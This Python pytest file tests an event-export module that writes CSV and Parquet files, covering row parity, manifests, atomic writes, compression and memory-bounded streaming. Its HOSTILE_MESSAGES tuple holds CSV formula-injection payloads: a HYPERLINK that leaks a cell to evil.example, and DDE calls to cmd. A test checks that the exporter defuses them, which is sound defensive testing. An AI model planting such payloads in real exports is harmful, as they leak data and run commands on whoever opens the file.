"""Exports: the same rows as the screen, formula cells defused, atomic files, bounded memory."""

from __future__ import annotations

import csv
import hashlib
import json
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine

from models import analytics, event_batches, export
from models.analytics import EventFilters
from models.database import write_transaction
from models.export import ExportError, export_events, manifest_path
from models.store import store_events
from models.tables import AGENT_TABLE, EVENT_TABLE
from models.vocabulary import Category, EventType, Status
from models.wire import Event
from tests.factories import (
    agent_row,
    bulk_agent_rows,
    bulk_event_rows,
    seed_fixture_fleet,
    wire_event,
)

NOW = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=1)
HOSTILE_MESSAGES = (
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture(autouse=True)
def _no_cached_engines() -> Iterator[None]:
    yield
    analytics.dispose_cached_engines()


@pytest.fixture(scope="module")
def fleet_url(module_engine: Engine) -> str:
    """The fixture fleet, seeded once per backend: the tests that use it only read."""
    seed_fixture_fleet(module_engine, now=NOW)
    return module_engine.url.render_as_string(hide_password=False)


def _read_back(path: Path, fmt: str) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(path, keep_default_na=False, dtype=str)
    return pd.read_parquet(path)


EXPORT_CASES = {
    "everything": EventFilters(),
    "failed in 2 days": EventFilters(statuses=(Status.FAILED,), since="2d"),
    "migration on some hosts": EventFilters(category=Category.MIGRATION, host="exec"),
    "nothing": EventFilters(error_text="no such text"),
}


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_export_holds_the_same_rows_as_events_frame(
    fleet_url: str, tmp_path: Path, fmt: str
) -> None:
    for name, filters in EXPORT_CASES.items():
        out = tmp_path / f"{name}.{fmt}"

        manifest = export_events(
            fleet_url,
            fmt=fmt,  # type: ignore[arg-type]
            out=out,
            filters=filters,
            chunk_size=4,
            progress=False,
        )

        on_screen = analytics.events_frame(fleet_url, filters=filters)
        written = _read_back(out, fmt)
        assert manifest["rows"] == len(written) == len(on_screen), name
        assert [int(pk) for pk in written["event_pk"]] == list(on_screen["event_pk"]), name
        assert list(written.columns) == list(analytics.EVENT_COLUMNS), name


def test_parquet_keeps_the_dtypes_and_holds_json_as_text(fleet_url: str, tmp_path: Path) -> None:
    out = tmp_path / "events.parquet"
    export_events(fleet_url, fmt="parquet", out=out, progress=False)

    written = pd.read_parquet(out)

    on_screen = analytics.events_frame(fleet_url, json_as="text")
    assert written.dtypes.to_dict() == on_screen.dtypes.to_dict()
    pd.testing.assert_frame_equal(written, on_screen)
    assert all(isinstance(json.loads(text), dict) for text in written["details"])
    schema = pq.read_schema(out)
    assert str(schema.field("details").type) in {"string", "large_string"}
    assert str(schema.field("occurred_at").type) == "timestamp[us, tz=UTC]"


def test_csv_cells_that_would_be_formulas_are_quoted(engine: Engine, tmp_path: Path) -> None:
    agent = agent_row(hostname="-evil-host")
    with write_transaction(engine) as connection:
        connection.execute(sa.insert(AGENT_TABLE), [agent])
        store_events(
            connection,
            agent_id=agent["id"],
            events=[
                Event.model_validate(wire_event(EventType.UPDATE_FAILED, error_message=message))
                for message in HOSTILE_MESSAGES
            ],
            received_at=NOW,
        )
    out = tmp_path / "events.csv"

    export_events(engine, fmt="csv", out=out, host="evil", progress=False)

    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(row["error_message"] for row in rows) == sorted(
        "'" + message for message in HOSTILE_MESSAGES
    )
    assert {row["hostname"] for row in rows} == {"'-evil-host"}
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.startswith(dangerous) for row in rows for cell in row.values())
    # Safe cells are left alone, and Parquet is data, not a spreadsheet: no quoting.
    assert all(row["details"].startswith("{") for row in rows)
    parquet = tmp_path / "events.parquet"
    export_events(engine, fmt="parquet", out=parquet, host="evil", progress=False)
    assert set(pd.read_parquet(parquet)["error_message"]) == set(HOSTILE_MESSAGES)


def test_csv_times_are_iso_utc_and_json_is_text(fleet_url: str, tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    export_events(fleet_url, fmt="csv", out=out, limit=1, progress=False)

    row = next(csv.DictReader(out.open(newline="", encoding="utf-8")))

    assert datetime.fromisoformat(row["occurred_at"]).tzinfo == UTC
    assert row["occurred_at"].endswith("Z")
    assert isinstance(json.loads(row["system_info"]), dict)


def test_manifest_describes_the_file_and_the_filters(fleet_url: str, tmp_path: Path) -> None:
    out = tmp_path / "failed.parquet"
    filters = EventFilters(statuses=(Status.FAILED,), host="fail")

    manifest = export_events(fleet_url, fmt="parquet", out=out, filters=filters, progress=False)

    on_disk = json.loads(manifest_path(out).read_text())
    assert on_disk == manifest
    assert manifest["file"] == "failed.parquet"
    assert manifest["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
    assert manifest["bytes"] == out.stat().st_size
    assert EventFilters.from_query_params(manifest["filters"]) == filters
    assert [c["name"] for c in manifest["columns"]] == list(analytics.EVENT_COLUMNS)
    assert manifest["rows"] == analytics.count_events(fleet_url, filters=filters)
    assert datetime.fromisoformat(manifest["created_at"]).tzinfo is not None
    assert manifest["tool"]["name"] == "redflag-migration-reporting"
    assert manifest["database"] in {"sqlite", "postgresql"}


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_an_empty_export_is_still_a_readable_file(db_url: str, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"empty.{fmt}"

    manifest = export_events(db_url, fmt=fmt, out=out, progress=False)  # type: ignore[arg-type]

    assert manifest["rows"] == 0
    written = _read_back(out, fmt)
    assert written.empty
    assert list(written.columns) == list(analytics.EVENT_COLUMNS)


@pytest.mark.parametrize("reader", ["arrow", "frames"])
def test_a_failed_export_leaves_no_file_and_keeps_the_old_one(
    fleet_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, reader: str
) -> None:
    exports = tmp_path / "exports"
    exports.mkdir()
    out = exports / "events.csv"
    out.write_text("previous export\n")

    def broken_after_one_chunk(*args: Any, **kwargs: Any) -> Iterator[Any]:
        yield next(iter(read(*args, **kwargs)))
        raise RuntimeError("database went away")

    if reader == "frames":
        read: Any = analytics.iter_events_frames
        monkeypatch.setattr(export, "iter_events_frames", broken_after_one_chunk)
    else:
        read = event_batches.iter_event_batches
        monkeypatch.setattr(event_batches, "iter_event_batches", broken_after_one_chunk)

    with pytest.raises(RuntimeError, match="went away"):
        export_events(
            fleet_url,
            fmt="csv",
            out=out,
            chunk_size=2,
            progress=False,
            reader=reader,  # type: ignore[arg-type]
        )

    assert out.read_text() == "previous export\n"
    assert sorted(p.name for p in exports.iterdir()) == ["events.csv"]


@pytest.mark.parametrize(
    ("target", "message"),
    [
        ("missing-dir/events.csv", "No such file or directory"),
        (".", "is a directory"),
    ],
)
def test_an_unusable_target_is_an_export_error(
    fleet_url: str, tmp_path: Path, target: str, message: str
) -> None:
    with pytest.raises(ExportError, match=message):
        export_events(fleet_url, fmt="csv", out=tmp_path / target, progress=False)


@pytest.mark.parametrize(
    ("compression", "codec"), [(None, "SNAPPY"), ("zstd", "ZSTD"), ("none", "UNCOMPRESSED")]
)
@pytest.mark.parametrize("reader", ["arrow", "frames"])
def test_parquet_is_snappy_unless_another_codec_is_asked_for(
    fleet_url: str, tmp_path: Path, compression: str | None, codec: str, reader: str
) -> None:
    out = tmp_path / "events.parquet"
    chosen = {} if compression is None else {"compression": compression}
    manifest = export_events(
        fleet_url, fmt="parquet", out=out, progress=False, reader=reader, **chosen
    )

    metadata = pq.ParquetFile(out).metadata
    codecs = {
        metadata.row_group(g).column(c).compression
        for g in range(metadata.num_row_groups)
        for c in range(metadata.num_columns)
    }
    assert codecs == {codec}
    assert manifest["compression"] == (compression or "snappy")
    pd.testing.assert_frame_equal(
        pd.read_parquet(out), analytics.events_frame(fleet_url, json_as="text")
    )


def test_an_unknown_compression_is_an_export_error(fleet_url: str, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="unknown compression 'rar'"):
        export_events(fleet_url, fmt="parquet", out=tmp_path / "x.parquet", compression="rar")  # type: ignore[arg-type]


def test_an_unknown_format_is_an_export_error(fleet_url: str, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="csv or parquet"):
        export_events(fleet_url, fmt="xlsx", out=tmp_path / "x.xlsx")  # type: ignore[arg-type]


# --- bulk: streaming in bounded chunks ----------------------------------------------------

BULK_EVENTS = 100_000
CHUNK_SIZE = 10_000
# 100k events held at once as Python objects take well over 100 MB (19 cells a row;
# measured ~150 MB under tracemalloc); one 10k chunk at a time stays near a tenth of that.
STREAMING_PEAK_LIMIT = 40 * 1024 * 1024


def _seed_bulk(engine: Engine) -> None:
    agents = bulk_agent_rows(500, now=NOW)
    with write_transaction(engine) as connection:
        connection.execute(sa.insert(AGENT_TABLE), agents)
    rows = bulk_event_rows([a["id"] for a in agents], BULK_EVENTS, now=NOW)
    with write_transaction(engine) as connection:
        if engine.dialect.name == "sqlite":
            # Room for all seven B-trees being filled at once; the 2 MiB default thrashes.
            connection.exec_driver_sql("PRAGMA cache_size=-131072")
        connection.execute(sa.insert(EVENT_TABLE), rows)
    # Statistics, as autovacuum or `PRAGMA optimize` would gather them in service.
    with engine.connect() as connection:
        connection.execution_options(isolation_level="AUTOCOMMIT").exec_driver_sql("ANALYZE")


@pytest.mark.slow
def test_a_large_export_streams_in_bounded_chunks(engine: Engine, tmp_path: Path) -> None:
    # The frames reader (the reference); the Arrow reader's bound is in
    # test_a_large_arrow_export_streams_in_bounded_batches.
    _seed_bulk(engine)
    pages: list[str] = []

    def record(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
        if statement.lstrip().upper().startswith("SELECT") and "LIMIT" in statement.upper():
            pages.append(statement)

    sa.event.listen(engine, "before_cursor_execute", record)
    out = tmp_path / "bulk.parquet"
    # The Python side is the same code on both backends, so memory is traced on SQLite
    # only (tracing makes the export several times slower); on PostgreSQL the LIMIT on
    # every page query is what keeps the driver from buffering the whole result.
    traced = engine.dialect.name == "sqlite"
    if traced:
        tracemalloc.start()
    try:
        manifest = export_events(
            engine,
            fmt="parquet",
            out=out,
            chunk_size=CHUNK_SIZE,
            progress=False,
            reader="frames",
        )
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        sa.event.remove(engine, "before_cursor_execute", record)

    assert manifest["rows"] == pq.read_metadata(out).num_rows == BULK_EVENTS
    # One query per chunk, plus the one that finds nothing after the last full chunk.
    assert len(pages) == BULK_EVENTS // CHUNK_SIZE + 1
    if traced:
        assert peak < STREAMING_PEAK_LIMIT, f"peak {peak / 2**20:.0f} MiB"
    written = pd.read_parquet(out, columns=["event_pk", "occurred_at"])
    assert written["occurred_at"].is_monotonic_decreasing
    assert written["event_pk"].is_unique


@pytest.mark.slow
def test_a_large_arrow_export_streams_in_bounded_batches(
    engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _seed_bulk(engine)
    batch_rows: list[int] = []
    arrow_bytes: list[int] = []
    read = event_batches.iter_event_batches

    def watched(*args: Any, **kwargs: Any) -> Iterator[pa.RecordBatch]:
        for batch in read(*args, **kwargs):
            batch_rows.append(batch.num_rows)
            arrow_bytes.append(pa.total_allocated_bytes())
            yield batch

    monkeypatch.setattr(event_batches, "iter_event_batches", watched)
    out = tmp_path / "bulk.parquet"
    before = pa.total_allocated_bytes()

    manifest = export_events(engine, fmt="parquet", out=out, chunk_size=CHUNK_SIZE, progress=False)

    assert manifest["rows"] == pq.read_metadata(out).num_rows == BULK_EVENTS
    assert max(batch_rows) <= CHUNK_SIZE
    assert len(batch_rows) >= BULK_EVENTS // CHUNK_SIZE
    # The whole table in Arrow would be ~60 MB; a row group and the batches read ahead
    # are a small part of it.
    assert max(arrow_bytes) - before < STREAMING_PEAK_LIMIT, f"{max(arrow_bytes) / 2**20:.0f} MiB"
    written = pd.read_parquet(out, columns=["event_pk", "occurred_at"])
    assert written["occurred_at"].is_monotonic_decreasing
    assert written["event_pk"].is_unique
